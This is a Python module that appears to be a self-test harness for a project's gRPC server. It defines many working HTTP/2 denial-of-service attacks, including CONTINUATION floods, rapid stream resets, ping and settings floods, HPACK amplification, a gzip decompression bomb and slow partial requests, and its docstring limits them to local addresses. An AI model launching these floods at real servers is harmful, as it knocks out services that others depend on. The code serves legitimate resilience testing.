"""What strangers may send to the gRPC port, to make it hold memory or work without an end.

Each attack is a function (Attacker, stop) that runs in a process of its own until `stop` is set, connecting again
whenever the server hangs up.  All go to addresses of this machine only."""
import os
import random
import socket
import struct
import zlib

import http2
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE)

WATCH = b"/grpc.health.v1.Health/Watch"
CHECK = b"/grpc.health.v1.Health/Check"
LIST = b"/affskel.v1.ErosionService/ListJobs"
SUBMIT = b"/affskel.v1.ErosionService/SubmitJob"


class Attacker:
    """Where to, and how.  Counts what the server has taken."""

    def __init__(self, address, tls_ca=None, token=None):
        self.address, self.tls_ca = address, tls_ca
        self.more = [(b"authorization", b"Bearer " + token.encode())] if token else []
        self.connections = self.bytes = 0

    def connect(self, first=None):
        connection = http2.Connection(self.address, first, self.tls_ca)
        self.connections += 1
        return connection

    def send(self, connection, data):
        connection.send(data)
        self.bytes += len(data)

    def call(self, stream, path, body=None, flags=END_HEADERS):
        """The frames of a call; without a body its end is left open."""
        block = http2.call_headers(path, more=self.more)
        head = http2.frame(HEADERS, flags, stream, block)
        return head if body is None else head + http2.frame(DATA, END_STREAM, stream, http2.message(body))


def again(attack, first=None):
    """Goes on with a new connection when the old one is gone.  first: the client's settings."""
    def run(attacker, stop):
        while not stop.is_set():
            connection = None
            try:
                connection = attacker.connect(first)
                attack(attacker, connection, stop)
            except OSError:
                stop.wait(0.05)
            finally:
                if connection is not None:
                    connection.close()
    run.__name__ = attack.__name__
    return run


def without_window(attack):
    return again(attack, http2.settings([(http2.INITIAL_WINDOW_SIZE, 0)]))


@again
def header_blocks(attacker, connection, stop):
    """A header block that never ends, beside a call that keeps the connection from being idle."""
    attacker.send(connection, attacker.call(1, WATCH, b""))
    attacker.send(connection, attacker.call(3, CHECK, flags=0))
    piece = http2.frame(CONTINUATION, 0, 3, b"\x00" + http2.text(b"x-flood") + http2.long_text(8000)) * 16
    while not stop.is_set():
        attacker.send(connection, piece)


@again
def many_headers(attacker, connection, stop):
    """As many calls as there may be, each with headers as long as they may be, none of which ends."""
    long = [(b"x-long-%d" % i, b"y" * 240) for i in range(26)]
    for stream in range(1, 2 * 1020, 2):
        block = http2.call_headers(CHECK, more=attacker.more + long)
        attacker.send(connection, http2.frame(HEADERS, END_HEADERS, stream, block))
    ping = http2.frame(PING, 0, 0, b"12345678")
    while not stop.wait(1):
        attacker.send(connection, ping)


@again
def resets(attacker, connection, stop):
    """Calls that are taken back as soon as they are made."""
    stream = 1
    body = b"\x18\xe8\x07"  # the newest 1000 jobs
    while not stop.is_set():
        data = b"".join(attacker.call(one, LIST, body) + http2.frame(RST_STREAM, 0, one, struct.pack(">I", 8))
                        for one in range(stream, stream + 512, 2))
        stream += 512
        attacker.send(connection, data)


@again
def provoked_resets(attacker, connection, stop):
    """Calls that the server takes back, because of a frame that is not allowed."""
    stream = 1
    while not stop.is_set():
        data = b"".join(attacker.call(one, LIST) + http2.frame(WINDOW_UPDATE, 0, one, struct.pack(">I", 0x7fffffff))
                        for one in range(stream, stream + 256, 2))
        stream += 256
        attacker.send(connection, data)


@again
def hang_ups(attacker, connection, stop):
    """As many calls as there may be, and then the connection is gone."""
    attacker.send(connection, b"".join(attacker.call(one, LIST, b"\x18\xe8\x07") for one in range(1, 2000, 2)))


@without_window
def unread_answers(attacker, connection, stop):
    """Answers for which there is no window."""
    for stream in range(1, 2001, 2):
        attacker.send(connection, attacker.call(stream, LIST, b"\x18\xe8\x07"))
    while not stop.wait(1):
        attacker.send(connection, http2.frame(PING, 0, 0, b"12345678"))


@again
def pings(attacker, connection, stop):
    """Pings whose answers are not read."""
    attacker.send(connection, attacker.call(1, WATCH, b""))
    piece = http2.frame(PING, 0, 0, b"12345678") * 1000
    while not stop.is_set():
        attacker.send(connection, piece)


@again
def settings_frames(attacker, connection, stop):
    """Settings whose acknowledgements are not read."""
    attacker.send(connection, attacker.call(1, WATCH, b""))
    piece = http2.settings() * 1000
    while not stop.is_set():
        attacker.send(connection, piece)


@again
def empty_frames(attacker, connection, stop):
    """Frames that say nothing."""
    attacker.send(connection, attacker.call(1, SUBMIT))
    piece = (http2.frame(DATA, 0, 1) + http2.frame(PRIORITY, 0, 1, b"\0\0\0\0\1")) * 500
    while not stop.is_set():
        attacker.send(connection, piece)


@again
def unknown_calls(attacker, connection, stop):
    """Calls that there are not, whose answers are not read."""
    stream = 1
    while not stop.is_set():
        data = b"".join(attacker.call(one, b"/nothing/Of%d" % one, b"") for one in range(stream, stream + 256, 2))
        stream += 256
        attacker.send(connection, data)


@again
def partial_messages(attacker, connection, stop):
    """Requests of which the last byte never comes."""
    body = http2.message(b"x" * (4 << 20))[:16000]
    for stream in range(1, 2000, 2):
        attacker.send(connection, attacker.call(stream, LIST) + http2.frame(DATA, 0, stream, body))
    while not stop.wait(1):
        attacker.send(connection, http2.frame(PING, 0, 0, b"12345678"))


@again
def crumbs(attacker, connection, stop):
    """Requests in frames of one byte each, of which the last byte never comes."""
    body = http2.message(b"x" * (4 << 20))
    for place in range(0, 60000, 200):
        for stream in range(1, 200, 2):
            begin = attacker.call(stream, LIST) if place == 0 else b""
            attacker.send(connection, begin + b"".join(
                http2.frame(DATA, 0, stream, body[at:at + 1]) for at in range(place, place + 200)))
    while not stop.wait(1):
        attacker.send(connection, http2.frame(PING, 0, 0, b"12345678"))


@again
def indexed_headers(attacker, connection, stop):
    """Header blocks of single bytes, each of which stands for a header of 4 KB that was sent before (RFC 7541)."""
    attacker.send(connection, attacker.call(1, WATCH, b""))
    kept = b"\x40" + http2.text(b"x-long") + http2.long_text(3900)
    stream = 3
    while not stop.is_set():
        block = (kept if stream == 3 else b"") + http2.call_headers(CHECK, more=attacker.more) + b"\xbe" * 12000
        attacker.send(connection, http2.frame(HEADERS, END_HEADERS, stream, block))
        stream += 2


@again
def table_sizes(attacker, connection, stop):
    """Header blocks that say again and again how large the table of headers is."""
    attacker.send(connection, attacker.call(1, WATCH, b""))
    stream = 3
    while not stop.is_set():
        block = b"\x20\x3f\xe1\x1f" * 4000 + http2.call_headers(CHECK, more=attacker.more)
        attacker.send(connection, http2.frame(HEADERS, END_HEADERS, stream, block))
        stream += 2


@again
def compressed_messages(attacker, connection, stop):
    """Messages within the first window that are a thousand times as long when they are unpacked (RFC 1952)."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = squeeze.compress(bytes(60 << 20)) + squeeze.flush()
    body = b"\1" + struct.pack(">I", len(body)) + body
    pieces = [body[at:at + 16384] for at in range(0, len(body), 16384)]
    block = http2.call_headers(CHECK, more=[*attacker.more, (b"grpc-encoding", b"gzip")])
    attacker.send(connection, http2.frame(HEADERS, END_HEADERS, 1, block))
    for piece in pieces:
        attacker.send(connection, http2.frame(DATA, END_STREAM * (piece is pieces[-1]), 1, piece))
    while not stop.is_set() and connection.socket.recv(65536):
        pass


def hellos(attacker, stop):
    """Connections that are gone as soon as they are greeted."""
    while not stop.is_set():
        try:
            attacker.connect().close()
        except OSError:
            stop.wait(0.005)


@again
def garbage(attacker, connection, stop):
    """Frames of every kind, with contents drawn by chance."""
    chance = random.Random(os.getpid())
    while not stop.is_set():
        attacker.send(connection, b"".join(
            http2.frame(chance.randrange(12), chance.randrange(256), chance.randrange(20),
                        chance.randbytes(chance.randrange(64))) for _ in range(100)))


def silence(attacker, stop):
    """Connections that say nothing, or not even that over TLS."""
    held = []
    while not stop.is_set():
        try:
            one = socket.create_connection(attacker.address) if isinstance(attacker.address, tuple) else None
            if one is None:
                one = socket.socket(socket.AF_UNIX)
                one.connect(attacker.address)
            held.append(one)
            attacker.connections += 1
        except OSError:
            stop.wait(0.05)
        while len(held) > 300:
            held.pop(0).close()
        stop.wait(0.005)


ATTACKS = {attack.__name__: attack for attack in (
    header_blocks, many_headers, indexed_headers, table_sizes, resets, provoked_resets, hang_ups, unread_answers, pings,
    settings_frames, empty_frames, unknown_calls, partial_messages, compressed_messages, crumbs, garbage, hellos, silence)}
